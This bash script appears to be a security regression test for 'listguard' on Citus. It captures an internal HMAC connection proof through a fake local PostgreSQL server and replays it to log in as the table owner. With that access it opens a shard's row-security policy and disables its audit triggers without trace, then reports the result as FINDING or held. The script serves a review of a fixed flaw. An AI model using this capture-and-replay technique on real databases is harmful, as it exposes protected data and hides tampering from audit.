#!/usr/bin/env bash
# 40 — Citus: the proof of being Citus's internal connection leaks to any role.
#
# Tries: an ordinary role with no grant (outsider) makes Citus open a
# connection from its own backend to a host and port of its choosing
# (master_run_on_worker(), citus_check_connection_to_node(): EXECUTE to
# PUBLIC) where a fake TLS PostgreSQL server reads the startup packet. The
# packet carries PGOPTIONS, which listguard filled with
# listguard.citus_proof (an HMAC over the gpid and the time, valid 24 h,
# bound to no node, role or connection), and application_name
# "citus_internal gpid=N". Replayed straight to a worker:
#   a) as the attacker's own role: the session is a "proven" internal one
#      (its results leave as transit tokens);
#   b) as listguard_owner (the owner of every protected table and shard;
#      the proof is the only thing that refuses its logins as a client,
#      docs/citus.md): it logs in; the DDL guard treats it as Citus (admin)
#      and records nothing for internal sessions: it opens the shard's row
#      policy to everyone and disables the stamping and audit triggers.
#   c) as a listguard admin (adm, its own login, no listguard_owner needed):
#      with its own captured proof, ALTER TABLE <shard> DISABLE TRIGGER
#      listguard_audit_<id> on a worker: without the proof this is recorded
#      (protection_changed, origin worker); with it nothing is recorded.
# Secure outcome: the proof never leaves for a node outside pg_dist_node
#   (or is bound to the target node and connection), listguard_owner's
#   login is refused, and DDL on a shard is refused or recorded.
# Result: FINDING (H) in the review: the proof (then bound to no role)
#   logged listguard_owner in on every node for 24 h; row security of the
#   shard opened, its stamp and audit triggers disabled, nothing recorded.
# Now held: a proof is bound to the role it logs in as and lives 15
#   minutes; an ordinary role's backend offers none for listguard_owner, so
#   b) is refused and a) replayed as another role proves nothing; c) an
#   admin's DDL through its own proof is recorded (citus_internal: true).
#   test/cluster/citus.t checks the same as the attacker.
set -u
cd "$(dirname "$0")"
. ./citus_env.sh
citus_env_up
read -r shard node < <(shard_of 10)
read -r proof gpid < <(capture_proof)
echo "captured: proof=$proof gpid=$gpid"
[ -n "$proof" ] || { echo "RESULT: held (no proof captured)"; exit 0; }
read -r proof2 gpid2 < <(capture_proof "SELECT citus_check_connection_to_node('127.0.0.1', $FAKE_PORT)")
echo "captured again through citus_check_connection_to_node(): ${proof2:-none}"

as_citus() { PGAPPNAME="citus_internal gpid=$gpid" PGOPTIONS="-c listguard.citus_proof=$proof -c search_path=public" at "$@"; }
echo "a) viewer directly on $node, plain: $(at "$node" -U viewer -c "SELECT email FROM $shard ORDER BY id LIMIT 1")"
echo "   viewer directly on $node, replaying the proof: $(as_citus "$node" -U viewer -c "SELECT email FROM $shard ORDER BY id LIMIT 1" | cut -c1-40)..."
echo "   the same proof on the other worker and the coordinator (bound to no node):"
read -r shard2 other < <(shard_of 11)
[ "$other" = "$node" ] && read -r shard2 other < <(shard_of 12)
echo "   $other: $(as_citus "$other" -U viewer -c "SELECT email FROM $shard2 LIMIT 1" 2>&1 | cut -c1-40)..."
echo "b) listguard_owner, plain: $(at "$node" -U listguard_owner -c "SELECT 1" 2>&1 | head -1)"
echo "   listguard_owner with the proof: $(as_citus "$node" -U listguard_owner -c "SELECT current_user" 2>&1)"
before=$(at coordinator -c "SELECT max(id) FROM listguard.audit_log")
seen_before=$(at "$node" -U outsider -c "SELECT count(*) FROM $shard")
as_citus "$node" -U listguard_owner -c "ALTER POLICY listguard_read ON $shard USING (true)" \
    -c "ALTER TABLE $shard DISABLE TRIGGER ALL" 2>&1
seen_after=$(at "$node" -U outsider -c "SELECT count(*) FROM $shard")
via_coord=$(at coordinator -U outsider -c "SELECT count(*) FROM subs")
trig=$(at "$node" -c "SELECT string_agg(tgname || '=' || tgenabled::text, ',') FROM pg_trigger WHERE tgrelid = '$shard'::regclass")
sleep 3
events=$(at coordinator -c "SELECT count(*) FROM listguard.audit_log WHERE id > $before")
b1=$(at coordinator -c "SELECT max(id) FROM listguard.audit_log")
at coordinator -U app -c "INSERT INTO subs (account_id, list_id, email) VALUES (1, 10, 'after.open@example.com')" >/dev/null
sleep 3
echo "   app inserts into list 10 afterwards: events recorded: $(at coordinator -c "SELECT count(*) FROM listguard.audit_log WHERE id > $b1"), the value unstamped: $(at "$node" -c "SELECT listguard._citus_unstamped(email) FROM $shard WHERE email = 'after.open@example.com'")"
at "$node" -c "DELETE FROM $shard WHERE email = 'after.open@example.com'" >/dev/null
echo "   outsider rows in $shard: before $seen_before, after $seen_after; through the coordinator: $via_coord; triggers: $trig"
echo "   audit events on the coordinator since: $events"
# Put the shard back (superuser).
at "$node" -c "ALTER POLICY listguard_read ON $shard USING (listguard.can_read(account_id, list_id, email))" \
    -c "ALTER TABLE $shard ENABLE TRIGGER ALL" >/dev/null
echo "c) admin, plain: $(at "$node" -U adm -c "ALTER TABLE $shard DISABLE TRIGGER listguard_audit_${shard##*_}" 2>&1 | head -1)"
at "$node" -c "ALTER TABLE $shard ENABLE TRIGGER ALL" >/dev/null
sleep 3
b2=$(at coordinator -c "SELECT max(id) FROM listguard.audit_log")
echo "   recorded: $(at coordinator -c "SELECT count(*) FROM listguard.audit_log WHERE id > $before AND kind = 'protection_changed' AND origin = '$node'")"
read -r aproof agpid < <(ATTACKER=adm capture_proof)
PGAPPNAME="citus_internal gpid=$agpid" PGOPTIONS="-c listguard.citus_proof=$aproof" at "$node" -U adm -c "ALTER TABLE $shard DISABLE TRIGGER listguard_audit_${shard##*_}" 2>&1
sleep 3
echo "   admin with its proof: trigger $(at "$node" -c "SELECT tgenabled::text FROM pg_trigger WHERE tgname = 'listguard_audit_${shard##*_}'"), events recorded: $(at coordinator -c "SELECT count(*) FROM listguard.audit_log WHERE id > $b2")"
at "$node" -c "ALTER TABLE $shard ENABLE TRIGGER ALL" >/dev/null
if [ "$seen_after" -gt "$seen_before" ] && [ "$events" = 0 ]; then
    echo "RESULT: FINDING (H): a captured proof logs listguard_owner in; shard protection removed, unrecorded"
else
    echo "RESULT: held"
fi
